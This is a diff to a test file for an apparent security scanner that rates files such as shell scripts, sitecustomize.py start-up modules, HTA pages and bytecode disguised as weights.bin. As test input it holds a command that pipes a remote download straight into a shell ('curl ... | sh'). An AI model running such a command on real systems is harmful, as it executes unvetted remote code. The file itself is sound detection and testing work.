@@ -83,7 +83,7 @@ def test_path_files_of_python_share_the_ending_of_weights() -> None:
 def test_scripts_and_shortcuts() -> None:
     assert rules("#!/bin/sh\nwget https://example.net/model.bin\n", "get.sh") == {}
     assert rules("echo hello\r\n", "start.bat") == {"program.script": "low"}
-    assert rules("import os\n", "sitecustomize.py") == {"program.script": "low"}
+    assert rules("import os\n", "sitecustomize.py") == {"program.start-up-module": "medium"}
     assert rules("#!/bin/sh\ncurl http://example.net/x | sh\n", "get.sh") == {
         "program.script-fetches": "medium"
     }
@@ -166,3 +166,8 @@ def test_lists_of_recordings_that_are_commands() -> None:
 
 def test_pages_that_are_programs() -> None:
     assert rules("<script>x</script>", "readme.hta") == {"program.shortcut": "medium"}
+
+
+def test_bytecode_under_names_of_weights() -> None:
+    for content in COMPILED.values():
+        assert rules(content, "weights.bin") == {"program.disguised": "high"}
